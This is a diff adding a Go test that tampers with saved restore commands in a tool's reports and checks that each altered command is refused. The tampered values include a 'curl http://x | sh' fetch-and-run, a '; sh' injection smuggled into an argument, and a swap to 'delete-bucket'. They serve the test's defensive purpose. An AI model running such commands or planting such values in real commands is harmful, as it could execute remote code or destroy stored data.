@@ -94,6 +94,25 @@ func TestBrokenSavedReports(t *testing.T) {
 	}
 }
 
+// A command that is to restore a file is one of ours: somebody may run it.
+func TestSavedCommands(t *testing.T) {
+	for _, format := range []string{"json", "ndjson"} {
+		raw := play(t, format, evidenceRun())
+		for _, change := range [][2]string{
+			{"aws s3api delete-object --bucket", "curl http://x | sh # --bucket"},
+			{"--version-id m1", "--version-id v1"},
+			{"--version-id m1", "--version-id m1; sh"},
+			{"gone.json.gz --version-id", "kept.json.gz --version-id"},
+			{"delete-object", "delete-bucket"},
+		} {
+			text := strings.Replace(raw, change[0], change[1], 1)
+			if _, err := OpenSaved(strings.NewReader(text), int64(len(text))); text == raw || err == nil || !strings.Contains(err.Error(), "is not one of trailseal's") {
+				t.Errorf("%s %q: %v", format, change, err)
+			}
+		}
+	}
+}
+
 // A report of before there were classes and places in it is refused rather than
 // guessed at where it has something that is not good.
 func FuzzSaved(f *testing.F) {
